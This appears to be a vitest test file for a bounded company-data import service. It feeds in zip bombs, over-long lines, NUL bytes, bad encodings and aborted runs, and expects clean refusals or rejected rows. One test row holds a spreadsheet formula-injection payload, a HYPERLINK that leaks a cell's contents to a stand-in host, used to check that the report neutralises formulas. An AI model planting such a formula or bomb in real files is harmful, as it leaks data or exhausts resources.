// Bounded imports (issue #14 F1, F3, K1, F4): import bombs end in a clear refusal or one rejected row that names the
// line and the setting, never in an unbounded line, report or database; one bad value (NUL byte, invalid UTF-8, an
// over-long value, a name too long to index) costs its row only; UTF-16 without a BOM is read; a cancelled or killed
// import rolls back and leaves its trace in the import log. Limits are set low through the options the server and CLI
// pass from the configuration, so every bomb is small and the outcome (not the wall time) is asserted.
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { spawnSync } from 'node:child_process'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import iconv from 'iconv-lite'
import { parse } from 'csv-parse/sync'
import type { DbHandle } from '../../server/db/client.js'
import { ImportError, runImport, type ImportOptions } from '../../server/ingest/run-import.js'
import { recoverAbortedImports } from '../../server/ingest/journal.js'
import { luhnCheckDigit } from '../../server/ingest/validate.js'
import { openTestDb } from '../helpers/db.js'
import { makeZip } from '../ingest/zip-writer.js'

let db: DbHandle
let dir: string
beforeAll(async () => {
  db = await openTestDb('base')
  dir = mkdtempSync(path.join(tmpdir(), 'kkb-bounds-'))
})
afterAll(async () => { await db?.close(); if (dir) rmSync(dir, { recursive: true, force: true }) })

const org = (c: number, i: number) => { const p = `55${60 + c}${String(i).padStart(5, '0')}`; return p + luhnCheckDigit(p) }
const H = 'orgnr;name;legal_form;sni1;kommun;description'
const row = (o: string, name: string, description = '') => [o, name, '49', '90010', '0180', description].join(';')
const LOW = { maxUncompressedBytes: 8 * 1024 * 1024, maxLineChars: 64 * 1024, maxFieldChars: 1000, maxRows: 1000, maxReportBytes: 1024 * 1024 }

let n = 0
async function importBytes (bytes: Buffer, opts: Partial<ImportOptions> = {}, file = 'companies.csv') {
  const sub = path.join(dir, `case-${n++}`)
  mkdirSync(sub, { recursive: true })
  const filePath = path.join(sub, file)
  writeFileSync(filePath, bytes)
  return runImport(db, { kind: 'companies', format: 'csv', filePath, year: 2031, source: `bounds-${n}`, reportDir: path.join(sub, 'reports'), limits: LOW, ...opts })
}
const names = async (source: string) => (await db.query<{ name: string }>('SELECT name FROM company WHERE source = $1 ORDER BY orgnr', [source])).rows.map((r) => r.name)
const state = async () => (await db.query<{ s: string }>(`SELECT (SELECT count(*) FROM company) || '|' || (SELECT count(*) FROM import_error) AS s`)).rows[0].s
type ReportRow = { line: string; column: string; value: string; reason: string }
const report = (file: string) => parse(readFileSync(file), { columns: true, bom: true }) as ReportRow[]

describe('import bombs', () => {
  it('a small zip holding a huge entry is refused by its uncompressed size, naming the setting; nothing changes', async () => {
    const huge = Buffer.alloc(64 * 1024 * 1024, 'x') // 64 MiB without a newline, deflates to ~64 KB
    const zip = makeZip([{ name: 'companies.csv', data: Buffer.concat([Buffer.from(H + '\n'), huge]) }])
    expect(zip.length).toBeLessThan(1024 * 1024)
    const before = await state()
    const err = await importBytes(zip, {}, 'bomb.zip').then(() => null, (e: unknown) => e)
    expect(err).toBeInstanceOf(ImportError)
    expect((err as Error).message).toMatch(/bomb\.zip: the zip entry companies\.csv is larger than 8 MB uncompressed \(IMPORT_MAX_UNCOMPRESSED_MB\)/)
    expect(await state()).toBe(before)
    const log = (await db.query<{ status: string; message: string }>('SELECT status, message FROM import_batch WHERE id = $1', [(err as ImportError).batchId])).rows[0]
    expect(log).toMatchObject({ status: 'failed', message: expect.stringContaining('IMPORT_MAX_UNCOMPRESSED_MB') })
  })

  it('a line without a newline is one rejected row naming its line; the rows before and after are imported', async () => {
    const long = 'x'.repeat(5 * 1024 * 1024)
    const bytes = Buffer.from([H, row(org(1, 0), 'Före AB'), long, row(org(1, 1), 'Efter AB')].join('\n') + '\n' + long)
    const r = await importBytes(bytes)
    expect(r.counts).toMatchObject({ imported: 2, rejected: 2 })
    expect(await names(r.source)).toEqual(['Före AB', 'Efter AB'])
    const rep = report(r.report!)
    expect(rep.map((x) => Number(x.line))).toEqual([3, 5])
    for (const x of rep) expect(x.reason).toMatch(/line is 5242880 characters long, more than 65536 characters \(IMPORT_MAX_LINE_KB\)/)
  })

  it('a huge value rejects its row (line, column, setting); the others are imported', async () => {
    const bytes = Buffer.from([H, row(org(2, 0), 'Ett AB'), row(org(2, 1), 'Två AB', 'y'.repeat(50_000)), row(org(2, 2), 'Tre AB')].join('\n') + '\n')
    const r = await importBytes(bytes)
    expect(r.counts).toMatchObject({ imported: 2, rejected: 1 })
    const [x] = report(r.report!)
    expect([Number(x.line), x.column]).toEqual([3, 'description'])
    expect(x.reason).toBe('value is 50000 characters long, more than 1000 characters (IMPORT_MAX_FIELD_CHARS)')
    expect(x.value.length).toBeLessThan(300) // the report holds a clip, not the value
  })

  it('a huge JSON object is one rejected item naming its line', async () => {
    const items = [{ orgnr: org(3, 0), name: 'Json AB', sni1: '90010', kommun: '0180' }, { orgnr: org(3, 1), name: 'z'.repeat(200_000) },
      { orgnr: org(3, 2), name: 'Json Två AB', sni1: '90010', kommun: '0180' }]
    const r = await importBytes(Buffer.from('[\n' + items.map((i) => JSON.stringify(i)).join(',\n') + '\n]\n'), { format: 'json' }, 'c.json')
    expect(r.counts).toMatchObject({ imported: 2, rejected: 1 })
    const [x] = report(r.report!)
    expect(Number(x.line)).toBe(3)
    expect(x.reason).toMatch(/JSON object longer than 65536 characters \(IMPORT_MAX_LINE_KB\)/)
  })

  it('more rows than IMPORT_MAX_ROWS fail the import, naming the line; nothing changes', async () => {
    const before = await state()
    const bytes = Buffer.from([H, ...Array.from({ length: 6 }, (_, i) => row(org(4, i), `Rad ${i} AB`))].join('\n') + '\n')
    const err = await importBytes(bytes, { limits: { ...LOW, maxRows: 4 } }).then(() => null, (e: unknown) => e)
    expect((err as Error).message).toMatch(/more than 4 rows \(IMPORT_MAX_ROWS\) at line 6/)
    expect(await state()).toBe(before)
  })

  it('a report that would pass its limit stops recording, and says so in the result and the report', async () => {
    const bad = Array.from({ length: 3000 }, (_, i) => `${org(5, i).slice(0, 9)}${(Number(org(5, i)[9]) + 1) % 10};Fel ${i} AB;49;90010;0180;`)
    const r = await importBytes(Buffer.from([H, row(org(5, 9999), 'Bra AB'), ...bad].join('\n') + '\n'), { limits: { ...LOW, maxRows: 10_000, maxReportBytes: 20_000 } })
    expect(r.counts).toMatchObject({ imported: 1, rejected: 3000 })
    expect(r.unrecorded).toBeGreaterThan(2000)
    const stored = (await db.query<{ n: number }>('SELECT count(*)::int AS n FROM import_error WHERE batch_id = $1', [r.batchId])).rows[0].n
    expect(stored).toBe(3000 - r.unrecorded + 1)
    const rep = report(r.report!)
    expect(rep.at(-1)!.reason).toMatch(new RegExp(`report truncated: .*\\(IMPORT_MAX_REPORT_MB\\); ${r.unrecorded} further rejected rows, from line \\d+ on`))
    const log = (await db.query<{ counts: Record<string, number> }>('SELECT counts FROM import_batch WHERE id = $1', [r.batchId])).rows[0]
    expect(log.counts.unrecorded).toBe(r.unrecorded)
  })
})

describe('one bad value is one rejected row', () => {
  it('a NUL byte and a 3 000-character name reject their rows with the line number; everything else imports', async () => {
    const bytes = Buffer.from([H, row(org(6, 0), 'Första AB'), row(org(6, 1), 'Nul\u0000byte AB'), row(org(6, 2), 'N'.repeat(3000)),
      row(org(6, 3), 'Sista AB')].join('\r\n') + '\r\n')
    const r = await importBytes(bytes, { limits: { ...LOW, maxFieldChars: 10_000 } })
    expect(r.counts).toMatchObject({ read: 4, imported: 2, rejected: 2 })
    expect(await names(r.source)).toEqual(['Första AB', 'Sista AB'])
    const rep = report(r.report!)
    expect(rep.map((x) => [Number(x.line), x.column])).toEqual([[3, 'name'], [4, 'name']])
    expect(rep[0].reason).toMatch(/NUL byte/)
    expect(rep[0].value).toBe('Nul␀byte AB')
    expect(rep[1].reason).toBe('too long: 3000 characters, at most 500 can be indexed')
  })

  it('the same in the SCB bulk format and in JSON', async () => {
    const bulk = ['PeOrgNr\tNamn\tJurForm\tNg1\tPostNr', `16${org(7, 0)}\tBra AB\t49\t90010\t11122`, `16${org(7, 1)}\tNul\u0000 AB\t49\t90010\t11122`,
      `16${org(7, 2)}\t${'L'.repeat(3000)}\t49\t90010\t11122`].join('\n') + '\n'
    const r = await importBytes(iconv.encode(bulk, 'latin1'), { format: 'scb-bulk', limits: { ...LOW, maxFieldChars: 10_000 } }, 'scb_bulkfil_JE_20310101.txt')
    expect(r.counts).toMatchObject({ imported: 1, rejected: 2 })
    expect(report(r.report!).map((x) => [Number(x.line), x.column])).toEqual([[3, 'Namn'], [4, 'Namn']])
    const json = [{ orgnr: org(8, 0), name: 'Json AB' }, { orgnr: org(8, 1), name: 'Nul\u0000 AB' }, { orgnr: org(8, 2), name: 'J'.repeat(3000) }]
    const j = await importBytes(Buffer.from(json.map((x) => JSON.stringify(x)).join('\n') + '\n'), { format: 'json', limits: { ...LOW, maxFieldChars: 10_000 } }, 'c.ndjson')
    expect(j.counts).toMatchObject({ imported: 1, rejected: 2 })
    expect(report(j.report!).map((x) => [Number(x.line), x.column])).toEqual([[2, 'name'], [3, 'name']])
  })

  it('Bolagsverket: NUL bytes are removed, the row imported and the removal noted in the report', async () => {
    const q = (...f: string[]) => f.map((x) => `"${x}"`).join(';')
    const header = 'organisationsidentitet;namnskyddslopnummer;registreringsland;organisationsnamn;organisationsform;avregistreringsdatum;' +
      'avregistreringsorsak;pagandeAvvecklingsEllerOmstruktureringsforfarande;registreringsdatum;verksamhetsbeskrivning;postadress'
    const file = [header, q(`${org(9, 0)}$ORGNR-IDORG`, '', 'SE-LAND', 'Ren AB$FORETAGSNAMN-ORGNAM$2020-01-01', 'AB-ORGFO', '', '', '', '2020-01-01', '', '$$LUND$22100$SE-LAND'),
      q(`${org(9, 1)}$ORGNR-IDORG`, '', 'SE-LAND', 'Nol\u0000l AB$FORETAGSNAMN-ORGNAM$2020-01-01', 'AB-ORGFO', '', '', '', '2020-01-01', '', '$$LUND$22100$SE-LAND')]
    const r = await importBytes(Buffer.from(file.join('\n') + '\n'), { format: 'bolagsverket' }, 'bolagsverket_bulkfil.txt')
    expect(r.counts).toMatchObject({ imported: 2, rejected: 0 })
    expect(r.cleaned).toBe(1)
    expect(await names(r.source)).toEqual(['Ren AB', 'Noll AB'])
    const [x] = report(r.report!)
    expect([Number(x.line), x.column]).toEqual([3, 'organisationsnamn'])
    expect(x.reason).toMatch(/NUL byte\(s\) removed/)
  })

  it('UTF-16 without a byte-order mark is read (little- and big-endian)', async () => {
    const text = [H, row(org(10, 0), 'Åsa Öberg Ljud AB'), row(org(10, 1), 'Ärlig Förlag AB')].join('\r\n') + '\r\n'
    const le = await importBytes(iconv.encode(text, 'utf16le'))
    expect(le.counts).toMatchObject({ imported: 2, rejected: 0 })
    expect(await names(le.source)).toEqual(['Åsa Öberg Ljud AB', 'Ärlig Förlag AB'])
    const be = await importBytes(iconv.encode(text.replaceAll(org(10, 0), org(10, 2)).replaceAll(org(10, 1), org(10, 3)), 'utf16be'))
    expect(be.counts).toMatchObject({ imported: 2, rejected: 0 })
    expect(await names(be.source)).toEqual(['Åsa Öberg Ljud AB', 'Ärlig Förlag AB'])
  })

  it('invalid UTF-8 after the file was detected as UTF-8 rejects its row instead of being silently replaced', async () => {
    // the encoding is decided on the first chunk (1 MiB) holding a non-ASCII byte: the bad bytes come after it
    const pad = 'p'.repeat(900)
    const good = Array.from({ length: 1200 }, (_, i) => row(org(11, i), `Åsa ${i} AB`, pad))
    const bytes = Buffer.concat([Buffer.from([H, ...good].join('\n') + '\n'),
      Buffer.from(`${org(11, 4000)};Tr`), Buffer.from([0xff, 0xfe]), Buffer.from(`asig AB;49;90010;0180;\n${row(org(11, 4001), 'Östra AB')}\n`)])
    expect(bytes.length).toBeGreaterThan(1 << 20)
    const r = await importBytes(bytes, { limits: { ...LOW, maxRows: 100_000 } })
    expect(r.counts).toMatchObject({ imported: 1201, rejected: 1 })
    expect((await names(r.source)).filter((x) => x.includes('\ufffd'))).toEqual([])
    const [x] = report(r.report!)
    expect([Number(x.line), x.column]).toEqual([1202, 'name'])
    expect(x.reason).toMatch(/invalid UTF-8/)
  }, 300_000)

  it('the report neutralises formulas in text cells and leaves numbers alone', async () => {
    const bytes = Buffer.from([H, `${org(12, 0)};=HYPERLINK("http://x.example/?leak="&A1,"klicka");49;90010;@SUM(A1);`,
      `${org(12, 1)};Minus AB;49;90010;-4;`].join('\n') + '\n')
    const r = await importBytes(bytes)
    const rep = report(r.report!)
    expect(rep.map((x) => [Number(x.line), x.column, x.value])).toEqual([[2, 'kommun', "'@SUM(A1)"], [3, 'kommun', '-4']])
  })
})

describe('cancelled and killed imports', () => {
  it('a cancelled import rolls back and is logged as cancelled with the reason', async () => {
    const before = await state()
    const controller = new AbortController()
    const bytes = Buffer.from([H, ...Array.from({ length: 10 }, (_, i) => row(org(13, i), `Avbruten ${i} AB`))].join('\n') + '\n')
    const err = await importBytes(bytes, { signal: controller.signal, onStart: () => controller.abort('cancelled by test') }).then(() => null, (e: unknown) => e)
    expect(err).toBeInstanceOf(ImportError)
    expect((err as ImportError).cancelled).toBe(true)
    expect(await state()).toBe(before)
    const log = (await db.query<{ status: string; message: string }>('SELECT status, message FROM import_batch WHERE id = $1', [(err as ImportError).batchId])).rows[0]
    expect(log).toEqual({ status: 'cancelled', message: 'cancelled: cancelled by test' })
  })

  it('an import whose process died is recorded as aborted at the next start, and its upload removed', async () => {
    const reports = path.join(dir, 'killed')
    mkdirSync(reports, { recursive: true })
    const upload = path.join(dir, 'killed-upload.csv')
    writeFileSync(upload, 'orgnr;name\n')
    const dead = spawnSync(process.execPath, ['-e', 'process.stdout.write(String(process.pid))'], { encoding: 'utf8' })
    const pid = Number(dead.stdout)
    writeFileSync(path.join(reports, `.running-${pid}-1.json`), JSON.stringify({ pid, host: (await import('node:os')).hostname(), kind: 'companies',
      format: 'csv', source: 'csv', file: 'dödad.csv', year: 2031, startedAt: '2031-01-01T00:00:00Z', createdBy: 'admin (ADMIN_TOKEN)', upload }))
    expect(await recoverAbortedImports(db, reports)).toBe(1)
    const log = (await db.query<{ status: string; message: string; file_name: string }>(
      "SELECT status, message, file_name FROM import_batch WHERE file_name = 'dödad.csv'")).rows
    expect(log).toEqual([{ status: 'aborted', file_name: 'dödad.csv', message: expect.stringMatching(/ended before the import finished/) }])
    expect(existsSync(upload)).toBe(false)
    expect(await recoverAbortedImports(db, reports)).toBe(0) // the marker is gone
  })
})
